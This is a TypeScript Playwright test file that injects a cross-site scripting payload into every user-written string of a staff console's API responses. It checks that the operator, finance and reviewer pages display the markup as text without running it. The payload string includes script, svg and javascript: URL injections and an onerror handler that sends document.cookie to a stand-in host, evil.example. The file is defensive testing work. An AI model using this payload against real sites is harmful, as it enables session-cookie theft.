import type { Route } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { script } from '../testing/server.ts';
import { Visitor } from '../testing/visitor.ts';
import { openWorld, type World } from '../testing/world.ts';

let world: World;
beforeAll(async () => {
  world = await openWorld();
  const seeding = script('scripts/cli.ts', ['seed', '--merchants', '8', '--url', world.server.url]);
  expect(await seeding.ended).toMatchObject({ code: 0 });
});
afterAll(() => world.close());

const HOSTILE = `"'><img src=/stolen onerror="fetch('https://evil.example/'+document.cookie)"><script>globalThis.stolen=1</script><svg onload=globalThis.stolen=1><a href="javascript:globalThis.stolen=1">{{7*7}}</a>`;

/** What people have written, as opposed to words of the product's own: it has characters, spaces or an @. */
const isWritten = (text: string): boolean => /[\p{Script=Han}@ ]/u.test(text);

const poisoned = (value: unknown): unknown => {
  if (typeof value === 'string') return isWritten(value) ? `${value}${HOSTILE}` : value;
  if (Array.isArray(value)) return value.map(poisoned);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, poisoned(one)]));
};

/** Every text in every answer goes on with what must not be run. */
async function poison(route: Route): Promise<void> {
  if (route.request().method() !== 'GET' || /\/(events|files)\b/.test(route.request().url()))
    return route.continue();
  const response = await route.fetch();
  const type = response.headers()['content-type'] ?? '';
  if (!type.startsWith('application/json')) return route.fulfill({ response });
  return route.fulfill({ response, json: poisoned(await response.json()) });
}

/** Runs in every page before anything else. */
const WATCH = `globalThis.violations = [];
document.addEventListener('securitypolicyviolation', (told) =>
  globalThis.violations.push(told.violatedDirective + ' ' + told.blockedURI));`;
const SEEN = `({ stolen: globalThis.stolen ?? null, violations: globalThis.violations,
  shows: document.body.innerText.includes('<img src=/stolen') })`;
type Seen = { readonly stolen: unknown; readonly violations: readonly string[]; readonly shows: boolean };

/** A member of staff of the sandbox, whose browser tells of everything that was run, asked for or reported. */
async function poisonedDesk(role: string): Promise<{ readonly desk: Visitor; readonly asked: string[] }> {
  const desk = await Visitor.come(world.browser, world.server.url, `hostile-${role}`, 'staff');
  const asked: string[] = [];
  desk.page.on('request', (request) => {
    const { origin, pathname } = new URL(request.url());
    if (origin !== new URL(world.server.url).origin || pathname === '/stolen') asked.push(request.url());
  });
  desk.page.on('dialog', (dialog) => {
    asked.push(dialog.message());
    void dialog.dismiss();
  });
  await desk.page.addInitScript({ content: WATCH });
  await desk.page.goto('/console/login');
  await desk.page.evaluate(
    (given) =>
      fetch('/api/v1/local/staff', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ role: given }),
      }),
    role,
  );
  await desk.page.route('**/api/v1/**', poison);
  return { desk, asked };
}

async function looksAt({ page }: Visitor, path: string): Promise<boolean> {
  await page.goto(path);
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  await page.locator('[aria-busy=true]').first().waitFor({ state: 'detached' });
  const seen = await page.evaluate<Seen>(SEEN);
  expect(seen, path).toMatchObject({ stolen: null, violations: [] });
  return seen.shows;
}

test.each([
  [
    'operator',
    [
      'overview',
      'all-cases',
      'objections',
      'agencies',
      'people',
      'outbox',
      'audit',
      'policies',
      'search',
      'setup',
    ],
  ],
  ['finance', ['payments']],
  ['reviewer', ['queue', 'records', 'reasons', 'conflicts', 'passkeys']],
] as const)(
  'Markup in every text of every answer is shown to the %s as text and never run',
  async (role, places) => {
    const { desk, asked } = await poisonedDesk(role);
    const shown: string[] = [];
    for (const place of places) if (await looksAt(desk, `/console/${place}`)) shown.push(place);
    if (role === 'reviewer') {
      const { id } = await desk.page.evaluate(
        async () =>
          (await (await fetch('/api/v1/review/cases/next', { method: 'POST' })).json()) as { id: string },
      );
      if (await looksAt(desk, `/console/cases/${id}`)) shown.push('case');
      expect(shown).toContain('case');
    }
    await desk.page.unrouteAll({ behavior: 'ignoreErrors' });
    // What is not shown has not been tried.
    expect(shown.length).toBeGreaterThan(0);
    expect(asked).toEqual([]);
    expect(desk.faults).toEqual([]);
  },
);
